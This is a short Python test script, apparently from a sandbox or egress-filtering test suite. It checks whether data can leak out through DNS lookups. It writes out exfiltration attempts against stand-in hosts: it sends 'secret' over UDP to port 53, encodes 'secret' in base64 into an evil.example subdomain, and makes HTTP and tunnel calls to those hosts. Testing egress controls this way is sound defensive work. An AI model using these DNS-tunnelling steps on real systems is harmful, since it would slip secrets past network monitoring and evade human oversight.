"""Says something to the owner of a domain by looking up names, over UDP and TCP."""
from attack import *

try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"secret", ("192.0.2.1", 53))
    succeeded("udp")
except OSError:
    pass
for host in ("c2VjcmV0.evil.example", "sub.denied.example"):
    for info in socket.getaddrinfo(host, 80, socket.AF_INET, socket.SOCK_STREAM):
        if not info[4][0].startswith("198.18.") and not info[4][0].startswith("198.19."):
            succeeded("an answer that is no placeholder: " + info[4][0])
    get("http://%s/" % host, host)
    open_tunnel(host, 443)
refused("the test asks the name server what it heard")
